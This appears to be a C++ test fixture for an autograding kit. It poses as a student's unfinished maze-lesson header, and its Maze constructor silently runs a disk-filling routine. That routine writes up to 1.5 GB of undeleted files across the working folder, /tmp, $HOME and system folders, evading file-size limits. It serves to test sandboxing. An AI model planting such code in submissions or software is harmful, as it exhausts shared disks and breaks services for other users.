#pragma once
// disk-filler: a student who does none of the lesson (the class is grading/stub's) and fills
// the disk, so that the grader cannot write its reports and everyone after it fails. The
// first Maze a step program makes writes 1 MB blocks into files named disk-filler-N.bin in its
// working folder, $TMPDIR, /tmp, /var/tmp, $HOME, every folder above its working folder and
// every folder two levels under / that it may write to; in each folder until a write fails,
// and 1.5 GB in all. It ignores SIGXFSZ and starts a new file every 64 MB, so that a limit on
// the size of one file (RLIMIT_FSIZE) does not stop it, and it never deletes what it wrote.
// It uses only the standard library, so no #include gives it away.
//
// What the kit must do: give each step a private, size-limited working folder and /tmp,
// thrown away with the step, and nothing else it can write. It scores at most the stub's 3,
// and after the run nothing of it is left: --out and the class's folder did not grow by more
// than a few MB, and no disk-filler-N.bin is anywhere.

#include <csignal>
#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include <turtle/turtle.hpp>

namespace diskFiller {
namespace fs = std::filesystem;

constexpr std::size_t block = std::size_t{1} << 20;
constexpr std::size_t blocksPerFile = 64;
constexpr std::size_t mostBlocks = 1536;  // 1.5 GB

// Fills `folder` until a write fails; returns false when the 1.5 GB are written.
inline bool fill(const fs::path& folder, std::size_t& blocksWritten) {
  static const std::string ones(block, '1');
  static int fileNumber = 0;
  bool fileFull = true;
  while (fileFull) {
    fileFull = false;
    std::ofstream out(folder / ("disk-filler-" + std::to_string(++fileNumber) + ".bin"), std::ios::binary);
    for (std::size_t k = 0; out && k < blocksPerFile; ++k) {
      if (blocksWritten >= mostBlocks) return false;
      if (!out.write(ones.data(), static_cast<std::streamsize>(ones.size())).flush()) break;
      ++blocksWritten;
      fileFull = k + 1 == blocksPerFile;
    }
  }
  return true;
}

inline void fillTheDisk() {
  static bool started = false;
  if (started) return;
  started = true;
#ifdef SIGXFSZ
  std::signal(SIGXFSZ, SIG_IGN);  // a write past the file size limit then fails instead of killing
#endif
  std::vector<fs::path> folders;
  std::error_code error;
  folders.push_back(fs::current_path(error));
  for (const char* variable : {"TMPDIR", "HOME"}) {
    if (const char* value = std::getenv(variable); value != nullptr && *value != '\0') folders.push_back(value);
  }
  folders.push_back("/tmp");
  folders.push_back("/var/tmp");
  for (fs::path folder = fs::current_path(error).parent_path(); !folder.empty(); folder = folder.parent_path()) {
    folders.push_back(folder);
    if (folder == folder.root_path()) break;
  }
  for (const auto& top : fs::directory_iterator("/", error)) {
    std::error_code inner;
    if (!top.is_directory(inner) || top.is_symlink(inner)) continue;
    if (top.path() == "/proc" || top.path() == "/sys" || top.path() == "/dev") continue;
    folders.push_back(top.path());
    for (const auto& second : fs::directory_iterator(top.path(), inner)) {
      std::error_code secondError;
      if (second.is_directory(secondError) && !second.is_symlink(secondError)) folders.push_back(second.path());
    }
  }
  std::size_t blocksWritten = 0;
  for (const fs::path& folder : folders) {
    if (!fill(folder, blocksWritten)) return;
  }
}

}  // namespace diskFiller

// The lesson itself, not done: grading/stub/maze.hpp.
constexpr int EAST = 0;
constexpr int NORTH = 1;
constexpr int WEST = 2;
constexpr int SOUTH = 3;

constexpr int INVALID = -1;
constexpr int EMPTY = 0;
constexpr int WALL = 1;
constexpr int VISITED = 2;
constexpr int END = 3;

struct Neighbor {
  turtle::Vec2D position;
  int value;
};

class Maze {
 public:
  turtle::Screen screen;
  turtle::Turtle turtle{screen};
  std::vector<std::vector<int>> matrix = std::vector<std::vector<int>>(20, std::vector<int>(20, 0));

  Maze() { diskFiller::fillTheDisk(); }

  void reset() {}

  int getMatrixValueAt(const turtle::Vec2D& /*position*/) const { return 0; }

  bool setMatrixValueAt(const turtle::Vec2D& /*position*/, int /*value*/) { return false; }

  turtle::Vec2D dig(int /*direction*/) { return {}; }

  std::vector<Neighbor> neighbors() const { return {}; }

  void makeMaze() {}

  void seed(std::uint64_t /*n*/) {}
};
